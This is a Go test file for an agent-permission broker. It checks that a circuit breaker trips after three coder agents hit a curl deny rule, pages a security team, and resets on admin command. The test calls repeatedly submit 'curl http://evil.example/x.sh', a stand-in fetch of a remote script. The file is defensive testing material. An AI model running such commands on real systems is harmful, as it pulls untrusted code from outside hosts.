package broker_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/signoff-dev/signoff/internal/brokertest"
	"github.com/signoff-dev/signoff/internal/escalator"
	"github.com/signoff-dev/signoff/internal/pager/pagertest"
	"github.com/signoff-dev/signoff/pkg/client"
	"github.com/signoff-dev/signoff/pkg/messages"
	"github.com/signoff-dev/signoff/pkg/policy"
)

// breakerPolicy trips "injection" when three coder agents hit the curl
// deny within ten minutes; its team's ladder pages sec-pd.
const breakerPolicy = `
mode: auto-edit
rules:
  - { rule: "bash(ls)", action: allow }
  - { rule: "bash(ls *)", action: allow }
  - { rule: "bash(curl *)", action: deny }
pagers:
  sec-pd: { kind: pagerduty, routing_key_env: SEC_PD_KEY }
teams:
  default: { members: [alice] }
  security:
    members: [sam]
    escalation:
      - { after: 1m, page: sec-pd }
breakers:
  - name: injection
    rules: ["bash(curl *)"]
    agents: 3
    window: 10m
    select: { agent_type: coder }
    team: security
`

const breakerPDKey = "0123456789abcdef0123456789abcdef"

// breakerPlane starts two replicas on Redis running breakerPolicy, paging
// a PagerDuty fake.
func breakerPlane(t *testing.T) (*brokertest.Plane, *pagertest.PagerDuty) {
	t.Helper()
	fake := pagertest.NewPagerDuty(t, breakerPDKey)
	keyFile := filepath.Join(t.TempDir(), "pd.key")
	if err := os.WriteFile(keyFile, []byte(breakerPDKey), 0o600); err != nil {
		t.Fatal(err)
	}
	pagers, err := escalator.NewPagers(map[string]policy.PagerSpec{"sec-pd": {Name: "sec-pd", Kind: policy.PagerDuty,
		RoutingKeyFile: keyFile, BaseURL: fake.URL, AllowHTTP: true, MinBackoff: time.Millisecond, MaxBackoff: 10 * time.Millisecond}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return brokertest.Start(t, brokertest.Options{Policy: breakerPolicy, Redis: true, Replicas: 2, Pagers: pagers}), fake
}

// call sends one bash call of a fresh request id and returns its decision,
// or nil when it asked (the question is then pending).
func call(t *testing.T, c *client.Client, id, cmd string) *messages.Decision {
	t.Helper()
	pending := brokertest.Ask(t.Context(), c, id, "bash", brokertest.Bash(cmd))
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if d, err := pending.Peek(); d != nil || err != nil {
			if err != nil {
				t.Fatalf("%s: %v", id, err)
			}
			return d
		}
		time.Sleep(20 * time.Millisecond)
	}
	return nil
}

func TestABreakerTripsOnTheNthDistinctAgentAndItsAgentsAskUntilReset(t *testing.T) {
	p, fake := breakerPlane(t)
	ap := p.Approver("default")
	coder := func(n int) *client.Client {
		return p.Agent(fmt.Sprintf("sess-coder-%d", n), fmt.Sprintf("coder-%d", n), client.WithAgentType("coder"))
	}
	reviewer := p.Agent("sess-reviewer", "reviewer-1", client.WithAgentType("reviewer"))
	fresh := coder(9) // never hits the deny: the breaker covers it all the same

	// An agent the selector does not cover does not count; the same coder
	// twice counts once: two coders are one short.
	brokertest.WantDecision(t, call(t, reviewer, "req-rev-curl", "curl http://evil.example/x.sh"), messages.OutcomeDeny, messages.ReasonPolicyDeny)
	for i, n := range []int{1, 1, 2} {
		d := call(t, coder(n), fmt.Sprintf("req-curl-%d-%d", n, i), "curl http://evil.example/x.sh")
		brokertest.WantDecision(t, d, messages.OutcomeDeny, messages.ReasonPolicyDeny)
	}
	time.Sleep(600 * time.Millisecond) // two flushes
	if trips, err := p.Store().BreakerTrips(t.Context()); err != nil || len(trips) != 0 {
		t.Fatalf("trips after two coders = %+v, %v; want none", trips, err)
	}
	brokertest.WantDecision(t, call(t, fresh, "req-ls-before", "ls"), messages.OutcomeAllow, messages.ReasonPolicyAllow)

	// The third coder trips it.
	brokertest.WantDecision(t, call(t, coder(3), "req-curl-3", "curl http://evil.example/x.sh"), messages.OutcomeDeny, messages.ReasonPolicyDeny)
	trip := waitTrip(t, p, "injection")
	// Hits are stamped when a replica's batch reaches the store: the
	// agents are in that order, not the calls'.
	if trip.Rule != "bash(curl *)" || strings.Join(slices.Sorted(slices.Values(trip.Agents)), ",") != "coder-1,coder-2,coder-3" || trip.SessionID != "sess-coder-3" {
		t.Fatalf("trip %+v: want the curl rule, coder-1..3, tripped in sess-coder-3", trip)
	}

	// Every replica: a covered agent's allowed calls ask, naming the
	// breaker; its denies stay denies; other agents are not touched.
	for i := range 4 {
		id := fmt.Sprintf("req-ls-tripped-%d", i)
		pending := brokertest.Ask(t.Context(), fresh, id, "bash", brokertest.Bash("ls"))
		q := ap.NextAsk(id)
		if d, _ := pending.Peek(); d != nil {
			t.Fatalf("%s: a covered agent's allowed call was decided %+v, want a question", id, d)
		}
		if q.Risk.Breaker != "injection" || !strings.Contains(q.Risk.Reason, "breaker injection tripped") {
			t.Fatalf("%s: question risk %+v does not name the breaker", id, q.Risk)
		}
		if q.Always != nil {
			t.Fatalf("%s: a breaker's question offers an always grant: %+v", id, q.Always)
		}
	}
	brokertest.WantDecision(t, call(t, fresh, "req-curl-tripped", "curl http://x"), messages.OutcomeDeny, messages.ReasonPolicyDeny)
	brokertest.WantDecision(t, call(t, reviewer, "req-rev-ls", "ls"), messages.OutcomeAllow, messages.ReasonPolicyAllow)

	// The audit says why, once, and the team's pager was paged.
	events := auditTally(t, p, "sess-coder-3", 1, func(data []byte) []string {
		var ev messages.BreakerEvent
		if json.Unmarshal(data, &ev) != nil || ev.Type != messages.TypeBreakerEvent {
			return nil
		}
		return []string{ev.Event + " " + ev.Trip.Breaker + " " + ev.Trip.Rule + " " + strings.Join(slices.Sorted(slices.Values(ev.Trip.Agents)), ",")}
	})
	if len(events) != 1 || events["tripped injection bash(curl *) coder-1,coder-2,coder-3"] != 1 {
		t.Fatalf("breaker audit records %v: want one trip record naming the rule and agents", events)
	}
	select {
	case ev := <-fake.Received:
		if ev.EventAction != "trigger" || ev.Payload == nil || !strings.Contains(ev.Payload.Summary, "breaker injection tripped") {
			t.Fatalf("page %+v: want a trigger naming the breaker", ev)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("the breaker's team was not paged")
	}

	trips := 0.0
	for _, r := range p.Replicas {
		trips += testutil.ToFloat64(r.Metrics.BreakerTrips)
	}
	if trips != 1 {
		t.Fatalf("signoff_breaker_trips_total over the replicas = %v, want 1", trips)
	}

	// Reset: the agent is allowed again on every replica.
	rep := adminReset(t, p, "injection")
	if !rep.OK || rep.Breaker == nil || rep.Breaker.Breaker != "injection" {
		t.Fatalf("reset reply %+v", rep)
	}
	// The reply comes from one replica; the others read the reset on its
	// broadcast or their next read, within fleetRefresh (500 ms).
	time.Sleep(700 * time.Millisecond)
	for i := range 4 {
		id := fmt.Sprintf("req-ls-reset-%d", i)
		brokertest.WantDecision(t, call(t, fresh, id, "ls"), messages.OutcomeAllow, messages.ReasonPolicyAllow)
	}
	if len(fake.Events()) != 1 {
		t.Fatalf("pages %+v: want exactly one", fake.Events())
	}
}

// waitTrip waits up to 3 s for breaker name to trip, then a second for
// every replica to know.
func waitTrip(t *testing.T, p *brokertest.Plane, name string) messages.BreakerTrip {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for {
		trips, err := p.Store().BreakerTrips(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		for _, tr := range trips {
			if tr.Breaker == name {
				// Every replica reads it on the broadcast, or at its next
				// read (fleetRefresh, 500 ms): within a second.
				time.Sleep(time.Second)
				return tr
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("breaker %s did not trip", name)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func adminReset(t *testing.T, p *brokertest.Plane, name string) messages.AdminReply {
	t.Helper()
	data, _ := json.Marshal(messages.AdminRequest{V: messages.Version, Breaker: name, By: "ops-jane"})
	var rep messages.AdminReply
	if err := json.Unmarshal(p.RawRequest(p.Subjects.Admin(messages.AdminOpBreakerReset), data), &rep); err != nil {
		t.Fatal(err)
	}
	return rep
}
